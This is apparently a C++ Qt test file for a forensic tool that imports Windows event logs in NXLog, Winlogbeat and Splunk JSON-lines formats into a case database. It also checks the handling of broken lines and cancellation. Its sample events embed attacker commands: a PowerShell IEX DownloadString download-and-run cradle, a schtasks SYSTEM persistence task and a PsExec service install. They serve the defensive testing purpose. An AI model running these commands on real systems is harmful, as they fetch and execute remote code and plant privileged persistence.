// SPDX-License-Identifier: GPL-3.0-or-later
// JSON-lines event exports through the real import job: NXLog (Mordor),
// Winlogbeat/ECS and Splunk (fields and XML _raw), the broken-line policy,
// and cancellation leaving the case unchanged.

#include <QtTest>

#include "core/ingest/import_job.h"
#include "core/store/case_file.h"
#include "core/store/event_search_index.h"
#include "core/store/event_cursor.h"
#include "core/store/statement.h"
#include "test_import_support.h"
#include "tests_support/test_paths.h"

using namespace hitome::core;
using hitome::test::countRows;

namespace {

std::string text(Connection& conn, const std::string& sql) {
    Statement st(conn, sql);
    auto r = st.step();
    return r && *r == Statement::Step::Row ? st.columnText(0) : std::string("<none>");
}

Result<ImportSummary> importFiles(CaseFile& c, std::vector<std::filesystem::path> files, std::stop_token stop = {},
                                  ProgressCallback progress = nullptr) {
    ImportJob job(c, nullptr);
    return job.run(std::move(files), ImportOptions{}, std::move(progress), stop);
}

const char* kNxlog =
    "{\"@timestamp\":\"2020-09-21T22:37:29.466Z\",\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WORKSTATION5.theshire.local\",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"RecordNumber\":4242,\"ProcessGuid\":\"{39e4a257-2b0a-5f69-ba00-000000000400}\",\"ProcessId\":\"3208\",\"Image\":\"C:\\\\Windows\\\\System32\\\\schtasks.exe\",\"CommandLine\":\"schtasks /create /tn Updater /tr \\\"powershell -nop\\\" /sc daily /ru SYSTEM\",\"ParentProcessGuid\":\"{39e4a257-2b09-5f69-b900-000000000400}\",\"ParentProcessId\":\"6144\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"User\":\"THESHIRE\\\\pgustavo\"}"
    "\n"
    "{\"@timestamp\":\"2020-09-21T22:37:30.000Z\",\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"Hostname\":\"WORKSTATION5.theshire.local\",\"SourceName\":\"Microsoft-Windows-PowerShell\",\"ScriptBlockText\":\"IEX (New-Object Net.WebClient).DownloadString('http:\\/\\/x')\"}"
    "\n";

const char* kWinlogbeat =
    "{\"@timestamp\":\"2021-03-01T10:00:00.123Z\",\"event\":{\"code\":\"4688\"},\"host\":{\"name\":\"dc01\"},\"winlog\":{\"event_id\":4688,\"channel\":\"Security\",\"computer_name\":\"DC01.corp.local\",\"provider_name\":\"Microsoft-Windows-Security-Auditing\",\"record_id\":77,\"event_data\":{\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\",\"NewProcessId\":\"0x1f4\",\"ProcessId\":\"0x44\",\"CommandLine\":\"whoami /all\",\"ParentProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"SubjectUserName\":\"admin\",\"SubjectDomainName\":\"CORP\"}}}"
    "\n";

const char* kSplunk =
    "{\"preview\":false,\"result\":{\"_time\":\"2017-08-24T14:36:01.000+00:00\",\"host\":\"we8105desk\",\"EventCode\":\"13\",\"LogName\":\"Microsoft-Windows-Sysmon/Operational\",\"TargetObject\":\"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Network\\\\debug\",\"Details\":\"aQBlAHgA\",\"Image\":\"C:\\\\Windows\\\\System32\\\\reg.exe\"}}"
    "\n"
    "{\"result\":{\"_raw\":\"<Event xmlns='http:\\/\\/schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Service Control Manager'/><EventID Qualifiers='16384'>7045</EventID><Level>4</Level><TimeCreated SystemTime='2017-08-24T14:40:00.5Z'/><EventRecordID>9</EventRecordID><Channel>System</Channel><Computer>we9041srv</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='ServiceName'>PSEXESVC</Data><Data Name='ImagePath'>%SystemRoot%\\\\PSEXESVC.exe</Data><Data Name='StartType'>demand start</Data><Data Name='AccountName'>LocalSystem</Data></EventData></Event>\",\"host\":\"we9041srv\"}}"
    "\n";

}  // namespace

class TestJsonlImport : public QObject {
    Q_OBJECT
private slots:
    void nxlogWinlogbeatAndSplunkImport() {
        const auto dir = hitome::test::scratchDir("jsonl");
        hitome::test::writeFile(dir / "mordor.json", kNxlog);
        hitome::test::writeFile(dir / "beats.ndjson", kWinlogbeat);
        hitome::test::writeFile(dir / "splunk.json", kSplunk);
        auto c = CaseFile::open(dir / "case.hitome");
        QVERIFY(c.ok());
        auto r = importFiles(*c, {dir / "mordor.json", dir / "beats.ndjson", dir / "splunk.json"});
        QVERIFY2(r.ok(), r.ok() ? "" : r.error().message().c_str());
        Connection& conn = c->connection();
        QCOMPARE(countRows(conn, "SELECT count(*) FROM events"), 5);
        QCOMPARE(text(conn, "SELECT format FROM sources WHERE name LIKE '%mordor.json'"), std::string("jsonl-events"));
        QCOMPARE(text(conn, "SELECT parent_image FROM events WHERE event_id = 1"),
                 std::string("C:\\Windows\\System32\\cmd.exe"));
        QCOMPARE(text(conn, "SELECT computer FROM events WHERE event_id = 4688"), std::string("DC01.corp.local"));
        QCOMPARE(countRows(conn, "SELECT pid FROM events WHERE event_id = 4688"), 0x1f4);
        QCOMPARE(text(conn, "SELECT command_line FROM events WHERE event_id = 4688"), std::string("whoami /all"));
        QCOMPARE(text(conn, "SELECT target_object FROM events WHERE event_id = 13"),
                 std::string("HKLM\\SOFTWARE\\Microsoft\\Network\\debug"));
        QCOMPARE(text(conn, "SELECT service_name || '|' || user_sid FROM events WHERE event_id = 7045"),
                 std::string("PSEXESVC|S-1-5-18"));
        QCOMPARE(text(conn, "SELECT image_path FROM services"), std::string("%SystemRoot%\\PSEXESVC.exe"));
        QCOMPARE(text(conn, "SELECT name || '|' || run_as FROM scheduled_tasks"), std::string("\\Updater|SYSTEM"));
        QCOMPARE(countRows(conn, "SELECT time FROM events WHERE event_id = 4104"), *parseIsoTime("2020-09-21T22:37:30Z"));
        QCOMPARE(countRows(conn, "SELECT count(*) FROM processes"), 4);   // schtasks + parent cmd, whoami + parent
        // The search index is built after the import (event_search_index.h).
        QCOMPARE(countRows(conn, "SELECT count(*) FROM events_fts WHERE events_fts MATCH '\"DownloadString\"'"), 0);
        QVERIFY(indexPendingEvents(conn).ok());
        QCOMPARE(countRows(conn, "SELECT count(*) FROM events_fts WHERE events_fts MATCH '\"DownloadString\"'"), 1);
    }

    void brokenLineIsSkippedWithItsNumber() {
        const auto dir = hitome::test::scratchDir("jsonl");
        std::string data = kNxlog;
        data += "{\"EventID\": 1, \"Channel\": \"x\", broken\n";
        data += kNxlog;
        hitome::test::writeFile(dir / "broken.json", data);
        auto c = CaseFile::open(dir / "case.hitome");
        QVERIFY(c.ok());
        auto r = importFiles(*c, {dir / "broken.json"});
        QVERIFY2(r.ok(), r.ok() ? "" : r.error().message().c_str());
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM events"), 4);
        QCOMPARE(r->files.size(), size_t(1));
        QCOMPARE(r->files[0].warnings.size(), size_t(1));
        const Error& w = r->files[0].warnings[0];
        QCOMPARE(w.record.value_or(0), std::uint64_t(3));
        QVERIFY(w.message().find("broken.json") != std::string::npos);
    }

    void fileWithOnlyBrokenLinesFailsAndLeavesCaseAsItWas() {
        const auto dir = hitome::test::scratchDir("jsonl");
        hitome::test::writeFile(dir / "good.json", kNxlog);
        auto c = CaseFile::open(dir / "case.hitome");
        QVERIFY(c.ok());
        QVERIFY(importFiles(*c, {dir / "good.json"}).ok());
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM events"), 2);
        std::string broken = "{\"EventID\":1,\"Channel\":\"Security\",\"Hostname\":\"a\"\n{\"EventID\":2,\n";
        hitome::test::writeFile(dir / "allbad.json", broken);
        auto r = importFiles(*c, {dir / "allbad.json"});
        QVERIFY(!r.ok());
        QVERIFY(r.error().message().find("allbad.json") != std::string::npos);
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM events"), 2);
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM sources"), 1);
    }

    void cancelledImportLeavesCaseUnchanged() {
        const auto dir = hitome::test::scratchDir("jsonl");
        std::string big;
        for (int i = 0; i < 20000; ++i) big += kNxlog;
        hitome::test::writeFile(dir / "big.json", big);
        auto c = CaseFile::open(dir / "case.hitome");
        QVERIFY(c.ok());
        std::stop_source stop;
        bool sawProgress = false;
        // Cancel at the first progress report, as the GUI's Cancel button would.
        auto r = importFiles(*c, {dir / "big.json"}, stop.get_token(), [&](const ImportProgress&) {
            sawProgress = true;
            stop.request_stop();
        });
        QVERIFY(sawProgress);
        QVERIFY(!r.ok());
        QCOMPARE(r.error().code, ErrorCode::Cancelled);
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM events"), 0);
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM sources"), 0);
        QCOMPARE(countRows(c->connection(), "SELECT count(*) FROM processes"), 0);
    }
};

QTEST_APPLESS_MAIN(TestJsonlImport)
#include "test_jsonl_import.moc"
